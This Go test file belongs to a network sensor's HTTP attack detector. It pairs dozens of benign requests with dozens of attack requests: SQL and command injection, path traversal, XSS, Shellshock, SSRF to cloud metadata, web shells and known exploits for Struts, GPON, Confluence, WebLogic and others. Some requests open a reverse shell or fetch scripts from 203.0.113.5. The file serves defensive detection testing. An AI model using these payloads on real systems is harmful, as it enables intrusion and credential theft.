package test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/mirrorwatch/mirrorwatch/events"
	"github.com/mirrorwatch/mirrorwatch/sensor/analyzer"
	"github.com/mirrorwatch/mirrorwatch/sensor/analyzer/http"
	"github.com/mirrorwatch/mirrorwatch/sensor/flow"
	"github.com/mirrorwatch/mirrorwatch/sensor/stream"
	"github.com/mirrorwatch/mirrorwatch/shared/detect"
	"github.com/mirrorwatch/mirrorwatch/shared/detect/all"
	"github.com/mirrorwatch/mirrorwatch/shared/device"
)

// webCase is what a client sends a web server, as it goes over the wire, and what comes of it.
type webCase struct {
	name string
	ask  string // the request; headers that every client sends are added
	back string // the answer's body; "" for a plain page
	want string // the type that must be told of; "" for none at all
}

const webBrowser = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0\r\nAccept: text/html,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\nCookie: PHPSESSID=0123456789abcdef; theme=dark\r\n"

func webGet(uri string) string {
	return "GET " + uri + " HTTP/1.1\r\nHost: shop.example\r\n" + webBrowser + "\r\n"
}

func webPost(uri, kind, body string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: shop.example\r\n%sReferer: http://shop.example/\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s", uri, webBrowser, kind, len(body), body)
}

func webForm(uri, body string) string { return webPost(uri, "application/x-www-form-urlencoded", body) }

const (
	sqlType   = "access.sql_injection"
	cmdType   = "access.command_injection"
	pathType  = "access.path_traversal"
	xssType   = "access.cross_site_scripting"
	shockType = "access.shellshock"
	ssrfType  = "access.ssrf_metadata"
	shellType = "access.web_shell"
	doorType  = "access.remote_management_exploit"
	smugType  = "access.http_smuggling"
	scanType  = "recon.web_scan"
)

// webAttacks are written as the tools and the published exploits write them.
var webAttacks = []webCase{
	{"tautology", webGet("/dvwa/vulnerabilities/sqli/?id=%27+or+%271%27%3D%271&Submit=Submit"), "", sqlType},
	{"tautology, numbers", webGet("/item.php?id=1+AND+1%3D1"), "", sqlType},
	{"tautology, comment", webGet("/item.php?id=1%27%20or%201=1--%20-"), "", sqlType},
	{"tautology in capitals and comments", webGet("/item.php?id=1'/**/OR/**/1=1%23"), "", sqlType},
	{"union", webGet("/item.php?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--"), "", sqlType},
	{"union in a comment that MySQL runs", webGet("/item.php?id=-1+/*!50000UNION*/+/*!50000SELECT*/+1,2"), "", sqlType},
	{"time", webGet("/item.php?id=1)%20AND%20SLEEP(5)%20AND%20(1=1"), "", sqlType},
	{"time, SQL Server", webGet("/item.aspx?id=1%3BWAITFOR%20DELAY%20'0:0:5'--"), "", sqlType},
	{"log-in past the password", webForm("/login.php", "user=admin%27+--+&password=x"), "", sqlType},
	{"log-in past the password, in it", webForm("/login.php", "user=admin&password=%27+OR+%271%27%3D%271"), "", sqlType},
	{"stacked", webGet("/item.php?id=1';DROP%20TABLE%20users--"), "", sqlType},
	{"error", webGet("/item.php?id=1%20AND%20extractvalue(1,concat(0x7e,user()))"), "", sqlType},
	{"order by", webGet("/item.php?id=1'%20ORDER%20BY%2010--+"), "", sqlType},
	{"blind with a subquery", webGet("/item.php?id=1%20AND%20(SELECT%20COUNT(*)%20FROM%20users)%3E0"), "", sqlType},
	{"in JSON", webPost("/api/login", "application/json", `{"email":"' or 1=1--","password":"a"}`), "", sqlType},
	{"in a cookie", strings.Replace(webGet("/"), "theme=dark", "theme=1' UNION SELECT 1,2,3-- -", 1), "", sqlType},
	{"in a user agent", strings.Replace(webGet("/"), "Mozilla/5.0", "' or sleep(5)#", 1), "", sqlType},
	{"in the path", webGet("/item/1'%20or%20'1'='1/show"), "", sqlType},
	{"lone quote, and the database complains", webGet("/item.php?id=1%27"), "<b>You have an error in your SQL syntax; check", sqlType},

	{"separator, DVWA", webForm("/dvwa/vulnerabilities/exec/", "ip=127.0.0.1%3B+ls&Submit=Submit"), "", cmdType},
	{"separator without a blank", webForm("/ping.php", "ip=127.0.0.1;id"), "uid=33(www-data) gid=33(www-data) groups=33", cmdType},
	{"pipe", webGet("/ping?host=127.0.0.1%7Cwhoami"), "", cmdType},
	{"and", webGet("/ping?host=127.0.0.1%26%26cat%20/etc/passwd"), "", cmdType},
	{"one ampersand", webForm("/ping.php", "ip=127.0.0.1%26dir&go=1"), "", cmdType},
	{"line feed", webGet("/ping?host=127.0.0.1%0Aid"), "", cmdType},
	{"substitution", webGet("/ping?host=$(curl%20http://203.0.113.5/x)"), "", cmdType},
	{"backquotes", webGet("/ping?host=%60id%60"), "", cmdType},
	{"a shell that calls back", webForm("/x", "q=%3Bbash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.5%2F4444+0%3E%261"), "", cmdType},
	{"Struts", strings.Replace(webGet("/index.action"), "Accept: text", "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}\r\nAccept: text", 1), "", cmdType},
	{"template", webGet("/hello?name=%7B%7B7*7%7D%7D"), "49", cmdType},
	{"PHP in a form", webForm("/x.php", "a=%3C%3Fphp+system%28%27id%27%29%3B+%3F%3E"), "", cmdType},
	{"router", webGet("/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://203.0.113.5/m.sh"), "", doorType},
	{"GPON", webForm("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.5/a`&ipv=0"), "", doorType},

	{"steps up", webGet("/index.php?page=../../../../../../etc/passwd"), "root:x:0:0:root:/root:/bin/bash", pathType},
	{"steps up, encoded twice", webGet("/index.php?page=..%252f..%252f..%252fetc%252fpasswd"), "", pathType},
	{"steps up, backslashes", webGet("/show?f=..%5C..%5C..%5Cwindows%5Cwin.ini"), "; for 16-bit app support", pathType},
	{"steps up in the path", webGet("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"), "", pathType},
	{"full name", webGet("/download?file=/etc/passwd"), "", pathType},
	{"wrapper", webGet("/index.php?page=php://filter/convert.base64-encode/resource=config"), "", pathType},
	{"Grafana", webGet("/public/plugins/alertlist/../../../../../../etc/passwd"), "", pathType},
	{"Tomcat's detour", webGet("/app/..;/manager/html"), "", pathType},
	{"longer than UTF-8 allows", webGet("/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"), " Directory of C:\\", pathType},
	{"backslashes, encoded twice", webGet("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"), "", pathType},
	{"proc", webGet("/?f=/proc/self/environ"), "", pathType},

	{"script", webGet("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "<p><script>alert(1)</script>", xssType},
	{"handler", webGet("/search?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E"), "", xssType},
	{"svg", webGet("/search?q=%22%3E%3Csvg/onload=confirm(1)%3E"), "", xssType},
	{"attribute", webGet("/search?q=%22%20onmouseover=%22alert(1)"), "", xssType},
	{"link", webGet("/go?u=javascript:alert(1)"), "", xssType},
	{"stored", webForm("/guestbook", "name=x&text=%3CsCrIpT+src%3Dhttp%3A%2F%2Fevil.example%2Fa.js%3E%3C%2Fscript%3E"), "", xssType},

	{"Shellshock", "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'cat /etc/passwd'\r\n\r\n", "", shockType},
	{"a telephone system's configuration", webGet("/maint/modules/11_configedit/phpconfig.php?file=sip_custom.conf"), "secret=x", doorType},
	{"an uploaded shell's order in JSON", webPost("/x.jsp", "application/json", `{"cmd":"whoami /all"}`), "", cmdType},
	{"Log in with NoSQL's operators stays quiet: no rule of ours", webPost("/login", "application/json", `{"user":{"$gt":""},"password":{"$gt":""}}`), "", ""},
	{"Drupal", webForm("/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", "form_id=user_pass&_triggering_element_name=name&x=%60id%60"), "", cmdType},
	{"Struts in the path", webGet("/%24%7B%28%23ctx%3D%40org.apache.struts2.ServletActionContext%29%7D/a.action"), "", doorType},
	{"PHP-CGI", webPost("/cgi-bin/php?%2D%64+allow_url_include%3Don+%2D%64+auto_prepend_file%3Dphp://input", "text/plain", "<?php system('id'); ?>"), "", cmdType},
	{"Shellshock in another line", "GET /cgi-bin/test.cgi HTTP/1.0\r\nHost: x\r\nReferer: () { :;}; echo; echo vulnerable\r\n\r\n", "", shockType},
	{"Shellshock in a cookie", "GET /cgi-bin/test.cgi HTTP/1.0\r\nHost: x\r\nCookie: () { :;}; ping -c 3 203.0.113.5\r\n\r\n", "", shockType},

	{"metadata", webGet("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"), "", ssrfType},
	{"metadata as a number", webGet("/fetch?url=http%3A%2F%2F2852039166%2Flatest"), "", ssrfType},
	{"metadata in JSON", webPost("/hook", "application/json", `{"callback":"http://169.254.169.254/latest/user-data"}`), `{"AccessKeyId":"ASIAABCDEFGHIJKLMNOP","SecretAccessKey":"x"}`, ssrfType},

	{"shell page", webGet("/uploads/s.php?cmd=cat+/etc/passwd"), "root:x:0:0:root:/root:/bin/sh", shellType},
	{"one-line shell", webForm("/up/a.php", "z=%40eval%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=QGluaV9zZXQ"), "", shellType},

	{"OMIGOD", "POST /wsman HTTP/1.1\r\nHost: 10.0.0.5:5986\r\nContent-Type: application/soap+xml;charset=UTF-8\r\nContent-Length: 230\r\n\r\n" + fmt.Sprintf("%-230s", `<s:Envelope><s:Body><p:ExecuteShellCommand_INPUT xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem"><p:command>id</p:command><p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>`), "<p:StdOut>uid=0(root) gid=0(root) groups=0(root)", doorType},
	{"Spring4Shell", webForm("/app", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request))"), "", doorType},
	{"Confluence", webGet("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/"), "", doorType},
	{"ThinkPHP", webGet("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"), "", doorType},
	{"F5", webGet("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), "", doorType},
	{"WebLogic", webPost("/wls-wsat/CoordinatorPortType", "text/xml", `<java><void class="java.lang.ProcessBuilder"><string>/bin/bash</string></void></java>`), "", doorType},

	{"length and chunked", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "", smugType},
	{"odd coding", "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked-x\r\n\r\nabcd", "", smugType},

	{"settings", webGet("/.env"), "APP_KEY=base64:x\nDB_PASSWORD=y", scanType},
	{"repository", webGet("/.git/config"), "", scanType},
	{"scanner", strings.Replace(webGet("/"), "Mozilla/5.0", "Mozilla/5.00 (Nikto/2.1.6)", 1), "", scanType},
}

// webHonest are what people and programs send all day, with everything in it that looks like an attack.
var webHonest = []webCase{
	{"search", webGet("/search?q=rock+and+roll+%26+more&lang=en"), "", ""},
	{"search with a quote", webGet("/search?q=O%27Brien+and+sons"), "", ""},
	{"search for select", webGet("/search?q=select+a+union+from+the+list"), "", ""},
	{"search for a phrase", webGet("/search?q=%22cats+or+dogs%22"), "", ""},
	{"a question about it", webGet("/search?q=how+to+use+order+by+in+sql"), "", ""},
	{"JSON in a query", webGet("/api?filter=%7B%22name%22%3A%22a%22%2C%22n%22%3A%5B1%2C2%5D%7D"), "", ""},
	{"a redirect", webGet("/login?next=http%3A%2F%2Fshop.example%2Fcart%3Fid%3D1"), "", ""},
	{"a session in the path", webGet("/cart;jsessionid=0A1B2C3D?id=5"), "", ""},
	{"dates and ranges", webGet("/log?from=2024-01-01T00:00:00Z&to=2024-01-02&n=1--10"), "", ""},
	{"a comment", webForm("/comment", "text=I+don%27t+like+it%3B+it%27s+too+long+--+and+the+cat+sat+on+it%21+Tom+%26+Jerry"), "", ""},
	{"a comment with HTML", webForm("/comment", "text=%3Cp%3EHello+%3Cb%3Ethere%3C%2Fb%3E%3C%2Fp%3E%3Cimg+src%3D%22a.png%22+alt%3D%22x%22%3E"), "", ""},
	{"a log-in with an odd password", webForm("/login", "user=joe&password=a%27%3Bb%7Cc%3Cd%22%26id%24%28x%29--"), "", ""},
	{"a document in JSON", webPost("/api/doc", "application/json", `{"title":"Who's who; and what's what","body":"We select them, or we don't. See ../notes/a.md","tags":["a|b","c&d"],"id":5}`), "", ""},
	{"GraphQL", webPost("/graphql", "application/json", `{"query":"query($id: ID!) { user(id: $id) { name, orders(first: 10) { total } } }","variables":{"id":"5"}}`), "", ""},
	{"Elasticsearch", webPost("/logs/_search", "application/json", `{"query":{"bool":{"must":[{"match":{"message":"select * or union"}}]}},"size":10}`), "", ""},
	{"a relative picture", webGet("/page?img=../img/a.png"), "", ""},
	{"a certificate's challenge", webGet("/.well-known/acme-challenge/x_y-z"), "", ""},
	{"analytics", webGet("/collect?v=1&dl=http%3A%2F%2Fshop.example%2F%3Fa%3D1%26b%3D2&dt=A%20%7C%20B%20%E2%80%94%20C&sr=1920x1080&ua=%22Chromium%22%3Bv%3D%22124%22"), "", ""},
	{"a price", webGet("/p?max=%3C100&sort=price+desc&q=a+%3E+b"), "", ""},
	{"SOAP", webPost("/service", "text/xml", `<s:Envelope><s:Body><Get><Name>O'Brien &amp; sons; ltd</Name><Id>5</Id></Get></s:Body></s:Envelope>`), "", ""},
	{"an API's command", webPost("/api/device/5", "application/json", `{"command":"set","value":"on"}`), "", ""},
	{"a query console", webForm("/phpmyadmin/sql.php", "sql_query=SELECT+*+FROM+users+WHERE+name%3D%27a%27+OR+id%3D1&db=shop"), "", ""},
	{"WinRM after its log-in", "POST /wsman HTTP/1.1\r\nHost: 10.0.0.5:5985\r\nAuthorization: Kerberos YIIG\r\nContent-Type: multipart/encrypted;protocol=\"application/HTTP-SPNEGO-session-encrypted\"\r\nContent-Length: 4\r\n\r\nabcd", "", ""},
	{"a formula", webForm("/calc", "f=%28a%2Bb%29*c%2F2%3B+x%3D%7Cy%7C"), "", ""},
	{"a path of Windows", webGet("/files?name=report+%282024%29.xlsx&dir=Q1%5CSales"), "", ""},
	{"CSS and scripts", webGet("/static/jquery-3.6.0.min.js?v=1.2.3"), "", ""},
	{"a template for mail", webPost("/api/mail", "application/json", `{"subject":"Hello {{name}}","html":"<p>Dear {{name}},</p><a href=\"http://x.example\">x</a>"}`), "", ""},
	{"a chat", webPost("/chat", "application/json", `{"msg":"did you cat /etc/hosts? ; echo works too"}`), "", ""},
}

// webRun sends one request through the analyzer and the judge, and gives the types told of.
func webRun(t *testing.T, c webCase) (types []string, told []string) {
	t.Helper()
	var records []events.Record
	head := events.Head{TS: 1.7e18, UID: "C1", OrigH: netip.MustParseAddr("203.0.113.9"), OrigP: 50123, RespH: netip.MustParseAddr("10.0.0.5"), RespP: 80}
	if strings.Contains(c.ask, "/wsman") {
		head.RespP = 5985
	}
	conv := &analyzer.Conversation{Head: head, Confirm: func(string) {}, Weird: func(string, string) {}, Emit: func(r events.Record) {
		h := r.Common()
		ts := h.TS
		*h = head
		h.TS = ts
		records = append(records, r)
	}}
	body := c.back
	if body == "" {
		body = "<html><body>Welcome to the shop.</body></html>"
	}
	back := fmt.Sprintf("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	a := http.Spec.New(conv)
	for d, text := range []string{c.ask, back} {
		if _, err := a.Feed(stream.Chunk{Dir: flow.Dir(d), Time: 1.7e18, Data: []byte(text)}); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
	}
	a.Close()
	j := detect.NewJudge(all.Specs(), device.New(device.Options{}), detect.Options{})
	for _, r := range records {
		j.Observe(r)
	}
	j.Close(0)
	for _, d := range j.Detections() {
		types = append(types, d.Type)
		told = append(told, d.Type+": "+d.Description)
	}
	return types, told
}

// Catches: an attack in a disguise that its detector does not see through, and an honest request that one takes for an attack.
func TestWebAttacksAndHonestRequests(t *testing.T) {
	for _, c := range append(slices.Clone(webAttacks), webHonest...) {
		types, told := webRun(t, c)
		switch {
		case c.want == "" && len(types) > 0:
			t.Errorf("honest: %s: %q", c.name, told)
		case c.want != "" && !slices.Contains(types, c.want):
			t.Errorf("%s: want %s, got %q", c.name, c.want, told)
		}
	}
}
